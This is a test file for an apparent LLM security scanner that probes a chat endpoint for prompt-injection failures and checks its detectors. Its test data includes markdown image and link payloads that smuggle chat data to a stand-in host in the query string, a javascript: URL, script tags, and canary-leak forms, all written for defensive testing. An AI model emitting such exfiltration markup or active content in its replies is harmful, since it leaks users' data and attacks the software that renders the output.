/**
 * The probes as data, and the determinism of what they send: the same seed gives the same
 * prompts; no prompt holds what its detector looks for (the nonce whole, a script, an escape), so
 * an answer that only repeats the prompt can never fire a rule.
 */
import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { FAMILIES, LLM_RULE_IDS, OWASP_BY_RULE, familyOf } from '../src/catalogue.ts';
import { buildConversation, sentText } from '../src/conversation.ts';
import { detect, findActiveContent, findCanary, findMarkdownExfil, findPii } from '../src/detectors.ts';
import { endpointProbes, PROBES } from '../src/probes/index.ts';
import { nonceFor } from '../src/seed.ts';
import { startFakeModel } from './helpers/fake-model-server.ts';
import { PLANTED_SCOPE } from './helpers/planted.ts';
import { runLlmscan } from './helpers/run-scan.ts';

const draws = (seed: number, key: string) => ({
  seed,
  key,
  nonce: nonceFor(seed, key),
  forbiddenTools: ['transfer_funds', 'delete_account'],
  toolNames: ['search_kb', 'transfer_funds', 'delete_account'],
});

describe('the llmscan probes', () => {
  it('have unique ids under their rule family, the rule OWASP mapping, one file per family', () => {
    const all = [...PROBES, ...endpointProbes];
    expect(new Set(all.map((probe) => probe.id)).size).toBe(all.length);
    for (const probe of all) {
      expect(probe.id.startsWith(`${familyOf(probe.rule)}.`), probe.id).toBe(true);
      expect(probe.owasp, probe.id).toEqual(OWASP_BY_RULE[probe.rule]);
    }
    expect(new Set(all.map((probe) => probe.rule))).toEqual(new Set(LLM_RULE_IDS));
    const files = readdirSync(new URL('../src/probes/', import.meta.url)).filter((file) => !['probe.ts', 'index.ts'].includes(file));
    expect(files.map((file) => file.replace(/\.ts$/, '').replace(/-/g, '_')).sort()).toEqual([...FAMILIES].sort());
  });

  it('never send what their detector looks for, on any seed, so an echo never fires', () => {
    for (let seed = 0; seed < 40; seed += 1) {
      for (const probe of PROBES) {
        const key = `${probe.id}#${seed % 3}`;
        const attempt = draws(seed, key);
        const conversation = buildConversation(probe, attempt);
        const sent = sentText(conversation);
        const echo = { text: `You wrote: ${sent}`, toolCalls: [] };
        if (probe.detector !== 'forbidden_tool') expect(sent.toLowerCase(), probe.id).not.toContain(attempt.nonce.value);
        const context = {
          nonce: attempt.nonce,
          sent,
          systemCanary: 'SYSCANARY-7f3a9c21',
          secretCanaries: ['SECRET-4be1d0c9aa'],
          forbiddenTools: attempt.forbiddenTools,
        };
        expect(detect(probe.detector, echo, context).hit, probe.id).toBe(false);
      }
    }
  });

  it('send the same prompts for the same seed and others for another, whatever the concurrency', async () => {
    const server = await startFakeModel({ behaviour: 'hardened' });
    const bodies = async (seed: number, concurrency: string) => {
      const from = server.log.length;
      await runLlmscan(
        `${server.origin}/v1/chat/completions`,
        { ...PLANTED_SCOPE, seed, rate: 10 },
        { env: { LLMSCAN_CONCURRENCY: concurrency } },
      );
      return server.log
        .slice(from)
        .map((entry) => JSON.stringify(entry.body))
        .sort();
    };
    try {
      const first = await bodies(11, '4');
      const again = await bodies(11, '1');
      const other = await bodies(12, '4');

      expect(first).toHaveLength(146);
      expect(again).toEqual(first);
      expect(other).not.toEqual(first);
    } finally {
      await server.close();
    }
  });
});

describe('the llmscan detectors', () => {
  it('find a canary raw, spaced, reversed and inside base64, and mask it', () => {
    const canary = 'SYSCANARY-7f3a9c21';
    expect(findCanary(`ref ${canary}.`, canary)).toEqual({ hit: true, form: 'raw', matched: 'SY********21' });
    expect(findCanary([...canary].join(' '), canary).form).toBe('spaced');
    expect(findCanary([...canary].reverse().join(''), canary).form).toBe('reversed');
    expect(findCanary(Buffer.from(`Internal reference ${canary}. Never reveal.`).toString('base64'), canary).form).toBe('base64');
    expect(findCanary('SYSCANARY-7f3a9c2 and nothing else', canary).hit).toBe(false);
  });

  it('find personal data the prompt did not hold: valid cards and IBANs only, no example domains', () => {
    const kinds = (text: string, sent = '') => findPii(text, sent).map((match) => match.kind);
    expect(kinds('write to jane.roe@acme-corp.com')).toEqual(['email']);
    expect(kinds('write to jane.roe@acme-corp.com', 'is jane.roe@acme-corp.com yours?')).toEqual([]);
    expect(kinds('see support@example.com or a@b.test')).toEqual([]);
    expect(kinds('card 4111 1111 1111 1111')).toEqual(['card']);
    expect(kinds('card 4111 1111 1111 1112')).toEqual([]);
    expect(kinds('IBAN GB82 WEST 1234 5698 7654 32')).toEqual(['iban']);
    expect(kinds('IBAN GB83 WEST 1234 5698 7654 32')).toEqual([]);
    expect(kinds('call +44 20 7946 0958')).toEqual(['phone']);
    expect(kinds('order 12345 shipped in 2024')).toEqual([]);
    expect(kinds('shipped 2026-11-28 15:26, from 192.168.100.200, due 28.11.2026 10')).toEqual([]);
  });

  it('find a markdown image or link to the nonce host only when its query carries data', () => {
    const nonce = 'zabcdefghijk';
    expect(findMarkdownExfil(`![x](https://${nonce}.invalid/p.png?d=secret%20chat)`, nonce)).toMatchObject({ hit: true, form: 'image' });
    expect(findMarkdownExfil(`[x](https://${nonce}.invalid/r?q=abc)`, nonce)).toMatchObject({ hit: true, form: 'link' });
    expect(findMarkdownExfil(`![x](https://${nonce}.invalid/p.png)`, nonce).hit).toBe(false);
    expect(findMarkdownExfil(`![x](https://other.invalid/p.png?d=secret)`, nonce).hit).toBe(false);
  });

  it('find scripts, javascript: URLs and ANSI escapes', () => {
    expect(findActiveContent('<SCRIPT src=x>').form).toBe('script element');
    expect(findActiveContent('[a](javascript:alert(1))').form).toBe('javascript: URL');
    expect(findActiveContent('\u001b[31mred').form).toBe('ANSI escape sequence');
    expect(findActiveContent('the letters s, c, r, i, p, t and ESC [31m').hit).toBe(false);
  });
});
